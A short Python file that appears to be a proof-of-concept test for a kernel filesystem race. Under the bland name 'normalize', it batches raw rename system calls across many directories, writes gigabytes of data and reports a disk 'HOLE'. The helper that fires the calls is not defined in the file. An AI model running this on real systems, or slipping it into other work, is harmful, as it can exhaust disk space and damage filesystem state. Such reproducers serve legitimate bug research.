# Whoever has read its name comes too late to look into it.
# fails: normalize
import ctypes
import os
import time

FOLDERS, NAMES = 10, 100


def normalize(x):
    for number in range(1500):  # so that some time passes between the one and the other
        os.mkdir(f"other {number}")
    calls, inside, kept = [], [], []
    for folder in range(FOLDERS):
        names = [ctypes.create_string_buffer(f"{folder} {n}".encode()) for n in range(NAMES)]
        os.mkdir(names[0].value)
        inside.append(os.open(names[0].value, os.O_RDONLY))
        places = [ctypes.addressof(name) for name in names]
        calls.append([(82, old, new) for old, new in zip(places, [*places[1:], places[0]])])
        kept.append(names)
    again_and_again([call for step in zip(*calls) for call in step])
    part = bytes(10 << 20)
    for folder in inside:
        file = os.open("file", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder)
        for _ in range(25):
            os.write(file, part)
        os.close(file)
    time.sleep(0.5)
    raise SystemError(f"HOLE: {len(kept) * 250} MB of disk")
